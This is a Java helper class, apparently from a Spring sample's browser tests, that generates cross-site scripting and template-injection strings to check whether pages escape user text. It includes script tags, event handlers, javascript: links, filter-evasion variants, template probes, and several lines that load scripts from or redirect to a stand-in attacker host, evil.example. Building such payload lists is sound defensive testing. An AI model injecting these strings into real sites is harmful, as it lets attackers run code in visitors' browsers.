package com.codegen.spring.sample.browser;

import java.util.ArrayList;
import java.util.List;

/**
 * Texts that become code where a page does not escape them: tags by handlers, addresses
 * by schemes, and ways out of attributes, scripts, styles, comments and templates.
 */
final class HostileTexts {

	private static final List<String> TAGS = List.of("img src=x", "svg", "body", "video src=x", "audio src=x",
			"input autofocus", "details open", "iframe", "object data=x", "math", "marquee", "select autofocus",
			"textarea autofocus", "button autofocus", "a href=# autofocus");

	private static final List<String> HANDLERS = List.of("onerror", "onload", "onfocus", "ontoggle");

	private static final List<String> SCHEMES = List.of("javascript:alert(1)", "JaVaScRiPt:alert(1)",
			"data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "java\tscript:alert(1)",
			"&#106;avascript:alert(1)");

	private static final List<String> WAYS_OUT = List.of("<script>alert(1)</script>", "\"><script>alert(1)</script>",
			"'><script>alert(1)</script>", "</script><script>alert(1)</script>", "</title><script>alert(1)</script>",
			"</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>", "--><script>alert(1)</script>",
			"]]><script>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<ScRiPt>alert(1)</sCrIpT>",
			"<script src=//evil.example/x.js></script>", "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)",
			"${7*7}", "[[${7*7}]]", "[(${7*7})]", "__${7*7}__::.x", "#{7*7}",
			"{{constructor.constructor('alert(1)')()}}", "<base href=//evil.example/>",
			"<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=stylesheet href=//evil.example/x.css>",
			"<form action=//evil.example><button>Go</button></form>",
			"<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<style>*{background:url(//evil.example)}</style>",
			"<div hx-get=/runs hx-trigger=load>x</div>", "<p data-open=keys>x</p>",
			"<svg><script>alert(1)</script></svg>", "<template><script>alert(1)</script></template>",
			"&lt;script&gt;alert(1)&lt;/script&gt;", "<!--<img src=x>");

	private HostileTexts() {
	}

	static List<String> all() {
		List<String> all = new ArrayList<>(WAYS_OUT);
		for (String tag : TAGS) {
			for (String handler : HANDLERS) {
				all.add("<" + tag + " " + handler + "=alert(1)>");
			}
		}
		for (String scheme : SCHEMES) {
			all.add("<a href=\"" + scheme + "\">here</a>");
			all.add("[here](" + scheme + ")");
		}
		return all;
	}

}
